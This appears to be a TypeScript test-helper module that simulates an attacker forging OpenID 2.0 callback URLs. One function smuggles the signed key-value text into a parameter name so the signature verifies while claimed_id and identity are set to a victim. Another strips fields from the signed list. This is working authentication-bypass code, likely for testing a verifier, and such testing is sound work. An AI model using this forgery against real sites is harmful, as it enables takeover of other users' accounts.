// What an attacker does with a genuine assertion for their own account: only public knowledge
// (the OpenID key-value form the platform signs) and the callback URL the platform sent them.

/**
 * The genuine callback URL bent to claim `identity`: every signed `name:value` line but the last
 * value goes into one parameter *name*, so that `<that name>:<last value>\n` is the very text
 * the platform signed, and `openid.signed` lists only that name. `claimed_id` and `identity`
 * are then unsigned, and set to the victim.
 */
export function claimIdentity(genuine: string, identity: string): string {
  const url = new URL(genuine);
  const q = url.searchParams;
  const signed = q.get('openid.signed')!.split(',');
  const last = signed.at(-1)!;
  const smuggled = [...signed.slice(0, -1).map((name) => `${name}:${q.get(`openid.${name}`)}`), last].join('\n');
  q.set(`openid.${smuggled}`, q.get(`openid.${last}`)!);
  q.set('openid.signed', smuggled);
  q.set('openid.claimed_id', identity);
  q.set('openid.identity', identity);
  return url.toString();
}

/** The genuine callback URL with some fields left out of `openid.signed` (the signature unchanged). */
export function unsign(genuine: string, fields: string[]): string {
  const url = new URL(genuine);
  const signed = url.searchParams.get('openid.signed')!.split(',');
  url.searchParams.set('openid.signed', signed.filter((name) => !fields.includes(name)).join(','));
  return url.toString();
}

/** The `openid.*` parameters of a callback URL. */
export function openIdFields(url: string): Record<string, string> {
  return Object.fromEntries([...new URL(url).searchParams].filter(([name]) => name.startsWith('openid.')));
}
